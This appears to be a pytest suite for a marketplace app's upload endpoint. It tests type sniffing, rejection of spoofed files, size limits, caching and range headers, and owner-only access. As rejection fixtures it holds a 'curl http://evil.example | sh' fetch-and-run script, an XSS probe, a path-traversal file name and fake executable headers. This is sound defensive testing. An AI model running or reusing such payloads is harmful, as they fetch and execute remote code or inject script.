"""Uploads through the real app: content-judged types, spoof refusal, limits, serving
headers (ETag, Range), read access, owner-only delete and the orphan sweep."""

from __future__ import annotations

import uuid
from datetime import timedelta
from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa

from bazaar.config import Settings
from bazaar.files import jobs
from bazaar.files.sniff import image_size
from bazaar.kit.db import Database, utcnow
from bazaar.kit.jobs import SweepContext
from bazaar.models import StoredFile
from tests.fixtures.files import PDF, Upload, png
from tests.fixtures.users import Account, MakeUser

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
SCRIPT = b"#!/bin/sh\ncurl http://evil.example | sh\n"


def uploads(settings: Settings) -> Path:
    return Path(settings.data_dir) / "uploads"


def stored_files(settings: Settings) -> set[str]:
    root = uploads(settings)
    return {p.name for p in root.glob("*/*") if p.is_file() and p.parent.name != ".tmp"}


async def post(
    client: httpx.AsyncClient,
    account: Account,
    content: bytes,
    *,
    purpose: str = "avatar",
    name: str = "evil.png",
    ctype: str = "image/png",
) -> httpx.Response:
    return await client.post(
        "/api/files",
        params={"purpose": purpose},
        headers=account.headers,
        files={"file": (name, content, ctype)},
    )


async def test_png_avatar_is_stored_typed_from_content_and_served_publicly(
    client: httpx.AsyncClient, buyer: Account, settings: Settings
) -> None:
    body = png(5, 7)
    # A lying name and part type: the stored type comes from the bytes.
    response = await post(client, buyer, body, name="../../me.exe", ctype="text/html")
    assert response.status_code == 201, response.text
    data = response.json()["data"]
    assert (data["contentType"], data["width"], data["height"]) == ("image/png", 5, 7)
    assert data["size"] == len(body)
    assert data["originalName"] == "me.exe"
    assert f"{uuid.UUID(data['id']).hex}.png" in stored_files(settings)

    served = await client.get(data["url"])  # anonymous: avatars are public
    assert served.status_code == 200
    assert served.content == body
    assert served.headers["content-type"] == "image/png"
    assert served.headers["x-content-type-options"] == "nosniff"
    assert served.headers["content-disposition"].startswith("inline")
    etag = served.headers["etag"]

    again = await client.get(data["url"], headers={"If-None-Match": etag})
    assert again.status_code == 304
    assert again.content == b""

    part = await client.get(data["url"], headers={"Range": "bytes=0-7"})
    assert part.status_code == 206
    assert part.content == body[:8]
    assert part.headers["content-range"] == f"bytes 0-7/{len(body)}"

    tail = await client.get(data["url"], headers={"Range": "bytes=-4"})
    assert (tail.status_code, tail.content) == (206, body[-4:])

    out = await client.get(data["url"], headers={"Range": f"bytes={len(body)}-"})
    assert out.status_code == 416
    assert out.json()["error"]["code"] == "RANGE_NOT_SATISFIABLE"
    assert out.headers["content-range"] == f"bytes */{len(body)}"


@pytest.mark.parametrize(
    ("content", "purpose", "code"),
    [
        (ELF, "avatar", "FILE_TYPE_NOT_ALLOWED"),
        (ELF, "attachment", "FILE_TYPE_NOT_ALLOWED"),
        (PE, "avatar", "FILE_TYPE_NOT_ALLOWED"),
        (PE, "evidence", "FILE_TYPE_NOT_ALLOWED"),
        (SCRIPT, "avatar", "FILE_TYPE_NOT_ALLOWED"),
        (PDF, "avatar", "FILE_TYPE_NOT_ALLOWED"),
        # A PNG signature with no valid header behind it.
        (b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\x0dIHDR" + b"\x00" * 17, "avatar", "INVALID_IMAGE"),
    ],
)
async def test_spoofed_uploads_are_refused_and_leave_nothing_behind(
    client: httpx.AsyncClient,
    buyer: Account,
    settings: Settings,
    db: Database,
    content: bytes,
    purpose: str,
    code: str,
) -> None:
    before = stored_files(settings)
    response = await post(client, buyer, content, purpose=purpose)
    assert response.status_code == 415, response.text
    assert response.json()["success"] is False
    assert response.json()["error"]["code"] == code
    assert stored_files(settings) == before
    assert not any((uploads(settings) / ".tmp").iterdir())
    async with db.reading() as session:
        assert await session.scalar(sa.select(sa.func.count()).select_from(StoredFile)) == 0


async def test_size_limit_per_purpose(
    client: httpx.AsyncClient, buyer: Account, settings: Settings
) -> None:
    big = png() + b"\x00" * settings.upload_max_avatar_bytes
    response = await post(client, buyer, big, purpose="avatar")
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "FILE_TOO_LARGE"
    # The same bytes fit an attachment's larger limit.
    assert len(big) < settings.upload_max_attachment_bytes
    assert (await post(client, buyer, big, purpose="attachment")).status_code == 201


async def test_bad_requests_are_clear_errors(client: httpx.AsyncClient, buyer: Account) -> None:
    anonymous = await client.post("/api/files", files={"file": ("a.png", png(), "image/png")})
    assert anonymous.status_code == 401
    as_json = await client.post("/api/files", headers=buyer.headers, json={"file": "x"})
    assert (as_json.status_code, as_json.json()["error"]["code"]) == (400, "BAD_UPLOAD")
    no_file = await client.post(
        "/api/files", headers=buyer.headers, data={"other": "1"}, files={"x": ("a", b"1")}
    )
    assert (no_file.status_code, no_file.json()["error"]["code"]) == (400, "BAD_UPLOAD")
    empty = await post(client, buyer, b"", purpose="attachment")
    assert (empty.status_code, empty.json()["error"]["code"]) == (400, "BAD_UPLOAD")
    purpose = await post(client, buyer, png(), purpose="executable")
    assert purpose.status_code == 400


async def test_private_file_is_readable_by_its_owner_only(
    client: httpx.AsyncClient, buyer: Account, make_user: MakeUser, upload_file: Upload
) -> None:
    stranger = await make_user(["buyer", "seller"])
    file_id = await upload_file(buyer, "attachment", PDF, "terms.pdf")
    mine = await client.get(f"/uploads/{file_id}", headers=buyer.headers)
    assert mine.status_code == 200
    assert mine.headers["content-type"] == "application/pdf"
    assert mine.headers["content-disposition"] == "attachment; filename*=UTF-8''terms.pdf"
    for headers in (stranger.headers, {}):
        assert (await client.get(f"/uploads/{file_id}", headers=headers)).status_code == 404
        assert (await client.get(f"/api/files/{file_id}", headers=headers)).status_code == 404
    meta = await client.get(f"/api/files/{file_id}", headers=buyer.headers)
    assert meta.json()["data"]["contentType"] == "application/pdf"


async def test_text_attachment_is_served_as_a_download(
    client: httpx.AsyncClient, buyer: Account, upload_file: Upload
) -> None:
    file_id = await upload_file(buyer, "attachment", b"<script>alert(1)</script>", "x.html")
    served = await client.get(f"/uploads/{file_id}", headers=buyer.headers)
    assert served.headers["content-type"].startswith("text/plain")
    assert served.headers["content-disposition"].startswith("attachment")
    assert served.headers["x-content-type-options"] == "nosniff"


async def test_only_the_owner_deletes(
    client: httpx.AsyncClient,
    buyer: Account,
    make_user: MakeUser,
    upload_file: Upload,
    settings: Settings,
) -> None:
    other = await make_user()
    file_id = await upload_file(buyer, "avatar")
    assert (await client.delete(f"/api/files/{file_id}", headers=other.headers)).status_code == 404
    assert (await client.get(f"/uploads/{file_id}")).status_code == 200
    gone = await client.delete(f"/api/files/{file_id}", headers=buyer.headers)
    assert gone.status_code == 200
    assert (await client.get(f"/uploads/{file_id}")).status_code == 404
    assert f"{uuid.UUID(file_id).hex}.png" not in stored_files(settings)


async def test_sweep_deletes_old_orphans_in_batches(
    buyer: Account, upload_file: Upload, settings: Settings, db: Database
) -> None:
    old = [uuid.UUID(await upload_file(buyer)) for _ in range(3)]
    fresh = uuid.UUID(await upload_file(buyer))
    kept = uuid.UUID(await upload_file(buyer))
    async with db.transaction() as session:
        await session.execute(
            sa.update(StoredFile)
            .where(StoredFile.id.in_([*old, kept]))
            .values(created_at=utcnow() - timedelta(days=2))
        )
        await session.execute(
            sa.update(StoredFile)
            .where(StoredFile.id == kept)
            .values(attached_kind="request", attached_id=uuid.uuid4())
        )
    ctx = SweepContext(settings=settings, db=db, name="files.sweep_orphans")
    assert await jobs.sweep(ctx, utcnow(), batch=2) == 3
    async with db.reading() as session:
        left = set(await session.scalars(sa.select(StoredFile.id)))
    assert left == {fresh, kept}
    names = {f.hex + ".png" for f in [*old, fresh, kept]}
    assert stored_files(settings) & names == {f"{fresh.hex}.png", f"{kept.hex}.png"}


def test_image_headers_must_decode() -> None:
    assert image_size(png(3, 4), "image/png") == (3, 4)
    assert image_size(b"GIF89a\x10\x00\x20\x00", "image/gif") == (16, 32)
    assert image_size(b"GIF89a\x00\x00\x20\x00", "image/gif") is None
    jpeg = b"\xff\xd8\xff\xe0\x00\x04\x00\x00\xff\xc0\x00\x11\x08\x00\x30\x00\x40\x03"
    assert image_size(jpeg, "image/jpeg") == (64, 48)
    assert image_size(b"\xff\xd8\xff\xda\x00\x04\x00\x00", "image/jpeg") is None
    vp8x = (
        b"RIFF\x00\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00"
        + b"\x09\x00\x00\x13\x00\x00"
    )
    assert image_size(vp8x, "image/webp") == (10, 20)
